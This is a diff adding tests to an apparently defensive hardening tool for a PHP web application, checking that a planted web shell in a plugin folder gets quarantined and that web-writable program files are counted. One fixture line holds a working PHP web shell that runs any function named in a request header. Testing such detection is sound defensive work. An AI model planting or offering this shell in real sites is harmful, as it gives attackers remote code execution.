@@ -255,6 +255,33 @@ def test_what_others_wrote_and_a_plugin_with_its_own_history_are_no_break_in(sit
     assert (found.quarantined, found.doubtful) == ([], [])
 
 
+WEATHER = ("plugin.php", "composer.json", "lang/english.php", "README.md")
+SHELL = "<?php $h = getallheaders(); call_user_func($h['x-f'], $h['x-a']);"
+
+
+def test_a_web_shell_that_came_as_a_plugin_cannot_run_and_a_plugin_is_written_down(site):
+    for name in WEATHER:
+        lay(site, f"public/plugin/Weather/{name}", days=90)
+        lay(site, f"public/plugin/Timetable/{name}", days=90)
+    lay(site, "public/plugin/Weather/start.php", SHELL, days=90)
+    lay(site, "public/plugin/Timetable/start.php", "<?php echo (int) $_GET['week'];", days=90)
+    found = harden(site)
+    assert found.quarantined == ["public/plugin/Weather/start.php"]
+    assert sorted(found.plugins) == ["public/plugin/Timetable", "public/plugin/Weather"]
+    assert found.plugins["public/plugin/Weather"].startswith("www-data, 20")
+    assert "plugins" not in found.result() and "writable" not in found.result()
+    again = harden(site)
+    assert (again.changed, again.quarantined) == (False, found.quarantined)
+
+
+def test_how_much_of_the_program_the_web_user_could_write_is_counted_once(site):
+    assert harden(site).writable == len(RELEASE) - 1  # but for .env
+    assert harden(site).writable == 0
+    lay(site, "src/CoreBundle/C1.php", owner=0, mode=0o666)
+    lay(site, ".env", "APP_ENV=prod")
+    assert harden(site).writable == 1
+
+
 def test_what_came_later_into_a_plugin_with_its_own_history_is_named(site):
     for name in ("plugin.php", "composer.json", "src/page.php", "view/page.tpl", "README.md"):
         lay(site, f"public/plugin/Ours/{name}", days=90)
